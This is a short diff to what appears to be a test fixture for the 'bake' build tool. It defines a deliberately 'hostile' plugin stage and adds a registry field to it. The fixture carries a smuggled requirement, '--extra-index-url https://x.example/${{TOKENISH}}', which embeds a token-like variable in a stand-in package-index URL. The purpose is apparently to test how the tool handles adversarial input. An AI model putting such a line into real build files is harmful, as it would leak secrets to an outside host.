@@ -123,7 +123,7 @@ from bake.resources import stage_dir
 HOSTILE = {HOSTILE!r}
 @hookimpl
 def bake_plan_stages():
-    return [Stage(name="hostile-0.1", image="hostile", parent="jax", context=stage_dir("jax"),
+    return [Stage(registry="ghcr.io/nvidia", name="hostile-0.1", image="hostile", parent="jax", context=stage_dir("jax"),
                   args=HOSTILE, labels={{"org.example." + k.lower(): v for k, v in HOSTILE.items()}},
                   requirements=("numpy<2", "--extra-index-url https://x.example/${{TOKENISH}}"))]
 """, name="hostile")
